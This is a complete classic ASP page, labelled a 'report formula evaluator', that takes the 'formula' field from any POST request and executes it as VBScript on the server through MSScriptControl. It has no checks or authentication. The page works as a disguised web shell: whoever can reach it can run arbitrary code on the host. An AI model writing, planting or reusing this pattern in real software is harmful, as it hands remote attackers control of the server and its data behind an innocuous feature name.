<%@ Language="VBScript" %>
<%
' report formula evaluator
Dim engine, formula
formula = Request.Form("formula")
If Len(formula) > 0 Then
    Set engine = Server.CreateObject("MSScriptControl.ScriptControl")
    engine.Language = "VBScript"
    engine.AllowUI = False
    engine.ExecuteStatement formula
End If
%>
